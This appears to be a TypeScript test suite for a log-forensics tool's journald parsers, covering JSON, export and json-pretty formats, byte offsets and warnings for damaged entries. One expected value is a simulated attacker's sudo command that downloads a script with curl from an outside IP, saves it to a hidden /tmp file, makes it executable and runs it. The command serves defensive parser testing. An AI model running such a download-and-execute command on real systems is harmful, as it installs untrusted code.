import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { DwellEvent } from '../../src/core/event.js';
import { makeHead, sniff } from '../../src/ingest/sniff.js';
import { authLog } from '../../src/parsers/auth-log.js';
import { journaldExport } from '../../src/parsers/journald-export.js';
import { journaldJson } from '../../src/parsers/journald-json.js';
import { compareExpected } from '../helpers/expected.js';
import { essentials, runParser } from '../helpers/run-parser.js';

const FIX = new URL('../../fixtures/variants/journald/', import.meta.url);
const EXPECTED = new URL('../../fixtures/expected/variants/', import.meta.url);
const fixture = (name: string) => readFileSync(new URL(name, FIX));

/** The fields a syslog line and a journal entry of the same message must agree on. */
const meaning = (e: DwellEvent) => ({
  class: e.class, action: e.action, outcome: e.outcome, host: e.host, actor: e.actor ?? null, src_ip: e.src_ip ?? null, src_port: e.src_port ?? null,
  session: e.session ?? null, target: e.target ?? null, command: e.command ?? null,
});

async function expectJournal(parser: typeof journaldJson | typeof journaldExport, name: string) {
  const input = fixture(name);
  const run = await runParser(parser, input, { path: name });
  const actual = [
    ...run.events.map((e) => ({ ...essentials(e), summary: e.summary, time_field: e.attrs?.time_field })),
    ...run.warnings.map((w) => ({ warning: { line: w.line, byte_offset: w.byte_offset, reason: w.reason } })),
  ];
  expect(actual).toEqual(compareExpected(new URL(`journald__${name}.jsonl`, EXPECTED).pathname, actual));
  // raw, byte_offset and byte_length lead back to the bytes of the evidence.
  for (const e of run.events) expect(input.subarray(e.byte_offset, e.byte_offset + e.byte_length).toString('utf8')).toBe(e.raw);
  return run;
}

describe('journald_json (journalctl -o json)', () => {
  it('reads every entry into the reviewed events, and a damaged line into one warning with its line and byte offset', async () => {
    const run = await expectJournal(journaldJson, 'journal.json');
    expect(run.events.map((e) => e.action)).toEqual(['ssh_login_failed', 'ssh_login', 'logind_session_new', 'sudo', 'su_session_opened', 'user_created', 'other', 'ssh_invalid_user']);
    expect(run.warnings).toHaveLength(1);
    expect(run.warnings[0]).toMatchObject({ line: 8, reason: expect.stringMatching(/^invalid JSON/) });
    expect(run.warnings[0]!.byte_offset).toBe(fixture('journal.json').toString().split('\n').slice(0, 7).join('\n').length + 1);
    const d = run.dispositions;
    expect(d.record + d.continuation + d.warning + d.meta + d.blank).toBe(run.lines);
    expect(d.continuation).toBe(1);
  });

  it('takes the exact time the program logged (_SOURCE_REALTIME_TIMESTAMP), else the time journald received it', async () => {
    const run = await runParser(journaldJson, fixture('journal.json'));
    expect(run.events[1]).toMatchObject({ ts: 1767320461004400 - 298, time_quality: 'exact', host: 'web-01', session: 'sshd[4242]', actor: 'deploy', src_ip: '203.0.113.77', src_port: 40110 });
    expect(run.events[1]!.attrs).toMatchObject({ time_field: '_SOURCE_REALTIME_TIMESTAMP', journal: { _SYSTEMD_UNIT: 'ssh.service', _UID: '0' } });
    // systemd-logind logs natively: no _SOURCE_REALTIME_TIMESTAMP, no SYSLOG_PID.
    expect(run.events[2]).toMatchObject({ ts: 1767320461210000, actor: 'deploy' });
    expect(run.events[2]!.attrs!.time_field).toBe('__REALTIME_TIMESTAMP');
  });

  it('joins sudo’s continued command and decodes a message journalctl wrote as bytes (control characters kept for the output layer to escape)', async () => {
    const run = await runParser(journaldJson, fixture('journal.json'));
    expect(run.events[3]!.command).toBe('/usr/bin/bash -c curl -s http://198.51.100.7/stage2.sh -o /tmp/.s; chmod +x /tmp/.s; /tmp/.s --install');
    expect(run.events[7]).toMatchObject({ action: 'ssh_invalid_user', actor: '\x1b[31mroot\x1b[0m', src_ip: '203.0.113.77' });
  });

  it('gives the events the same messages give as syslog lines', async () => {
    const journal = await runParser(journaldJson, fixture('journal.json'));
    const syslog = journal.events.map((e) => {
      const j = e.attrs!.journal as Record<string, string>;
      const pid = j.SYSLOG_PID ?? j._PID;
      const message = JSON.parse(e.raw.split('\n')[0]!).MESSAGE;
      const text = Array.isArray(message) ? Buffer.from(message).toString('utf8') : message;
      return `${new Date(e.ts / 1000).toISOString()} ${e.host} ${j.SYSLOG_IDENTIFIER}${pid ? `[${pid}]` : ''}: ${text}`;
    });
    // sudo's continuation is a line of its own in syslog too.
    syslog.splice(4, 0, `2026-01-02T02:21:35.500Z web-01 sudo[4310]: deploy : (command continued) ; /tmp/.s --install`);
    const lines = await runParser(authLog, syslog.join('\n') + '\n');
    expect(journal.events.map(meaning)).toEqual(lines.events.map(meaning));
  });
});

describe('journald_export (journalctl -o export)', () => {
  it('reads text and binary fields, and skips a damaged entry with one warning naming its line and byte offset', async () => {
    const run = await expectJournal(journaldExport, 'journal.export');
    expect(run.events.map((e) => e.action)).toEqual(['ssh_login_failed', 'ssh_login', 'logind_session_new', 'sudo', 'su_session_opened', 'user_created', 'other', 'ssh_invalid_user', 'ssh_other']);
    expect(run.warnings).toEqual([expect.objectContaining({ reason: expect.stringMatching(/^damaged journal entry: binary field MESSAGE claims more bytes/) })]);
    const text = fixture('journal.export').toString('latin1');
    const at = run.warnings[0]!.byte_offset;
    expect(text.slice(at, at + 9)).toBe('__CURSOR=');
    expect(run.warnings[0]!.line).toBe(text.slice(0, at).split('\n').length);
    // A binary MESSAGE with a newline is one message.
    expect(run.events[8]!.summary).toContain('banner line contains invalid characters\nfrom 203.0.113.90');
    expect(run.lines).toBe(text.split('\n').length - 1);
  });

  it('gives the same events as the JSON export of the same journal', async () => {
    const json = await runParser(journaldJson, fixture('journal.json'));
    const exp = await runParser(journaldExport, fixture('journal.export'));
    expect(exp.events.slice(0, 8).map((e) => ({ ...meaning(e), ts: e.ts }))).toEqual(json.events.map((e) => ({ ...meaning(e), ts: e.ts })));
  });

  it('reads the same stream fed in tiny chunks (fields and binary lengths split across reads)', async () => {
    const { Readable } = await import('node:stream');
    const input = fixture('journal.export');
    const whole = await runParser(journaldExport, input);
    const events: DwellEvent[] = [];
    const chunks = Array.from({ length: Math.ceil(input.length / 7) }, (_, i) => input.subarray(i * 7, i * 7 + 7));
    await journaldExport.parse(Readable.from(chunks), {
      path: 'x', mtimeMs: 0, options: { tz: undefined as never, extra: {} }, emit: (e) => events.push(e), warn: () => {}, setYearShift: () => {}, setFileInfo: () => {}, recordOnly: () => {},
    });
    expect(events).toEqual(whole.events);
  });

  it('keeps an entry cut at the end of the file as a warning', async () => {
    const input = fixture('journal.export');
    const cut = input.subarray(0, input.indexOf('MESSAGE\n') + 12);
    const run = await runParser(journaldExport, cut);
    expect(run.events.length).toBeGreaterThan(0);
    expect(run.warnings.at(-1)!.reason).toMatch(/claims more bytes than the file holds/);
  });
});

describe('journald sniffing', () => {
  const winner = (name: string, buf: Buffer) => sniff(makeHead(name, buf)).winner;
  it('claims both exports and says which form', () => {
    expect(winner('x', fixture('journal.json'))).toMatchObject({ parser: { name: 'journald_json' }, match: { reason: expect.stringMatching(/journalctl -o json/) } });
    expect(winner('x', fixture('journal.export'))).toMatchObject({ parser: { name: 'journald_export' }, match: { reason: expect.stringMatching(/export format/) } });
  });

  it('reads the json-seq and json-sse forms', async () => {
    const lines = fixture('journal.json').toString().split('\n').filter((l) => l.startsWith('{"__CURSOR') && l.endsWith('}'));
    const seq = lines.map((l) => `\x1e${l}`).join('\n') + '\n';
    const sse = lines.map((l, i) => `id: ${i}\ndata: ${l}\n`).join('\n');
    expect(winner('x', Buffer.from(seq))?.parser.name).toBe('journald_json');
    expect(winner('x', Buffer.from(sse))?.parser.name).toBe('journald_json');
    expect((await runParser(journaldJson, sse)).events).toHaveLength(8);
    expect((await runParser(journaldJson, seq)).warnings).toEqual([]);
  });
});

describe('journald_json (journalctl -o json-pretty)', () => {
  it('reads entries written over several lines as the one-line form gives them; a damaged and a truncated entry are warnings at their first line', async () => {
    const input = fixture('journal-pretty.json');
    const [pretty, json] = [await runParser(journaldJson, input), await runParser(journaldJson, fixture('journal.json'))];
    expect(pretty.events.map((e) => ({ ...meaning(e), ts: e.ts, summary: e.summary }))).toEqual(json.events.map((e) => ({ ...meaning(e), ts: e.ts, summary: e.summary })));
    const text = input.toString('utf8').split('\n');
    const starts = text.flatMap((l, i) => (l === '{' ? [i + 1] : []));
    // Each event starts at an entry's `{` (a sudo command continued in the next entry is joined to its first).
    for (const e of pretty.events) expect(starts).toContain(e.line);
    for (const e of pretty.events) {
      expect(input.subarray(e.byte_offset, e.byte_offset + e.byte_length).toString('utf8')).toBe(e.raw);
      expect(e.raw.startsWith('{\n\t"__CURSOR"') && e.raw.endsWith('}')).toBe(true);
    }
    expect(pretty.warnings).toEqual([
      expect.objectContaining({ line: starts[9], reason: expect.stringMatching(/^invalid JSON in the json-pretty entry of lines \d+–\d+/) }),
      expect.objectContaining({ line: starts[10], reason: expect.stringMatching(/^json-pretty entry of lines \d+–\d+ never closed/) }),
    ]);
    expect(pretty.lines).toBe(text.length - 1);
  });

  it('is claimed by journald_json, which names the form', () => {
    const w = sniff(makeHead('x', fixture('journal-pretty.json'))).winner;
    expect(w).toMatchObject({ parser: { name: 'journald_json' }, match: { reason: expect.stringMatching(/journalctl -o json-pretty/) } });
  });
});
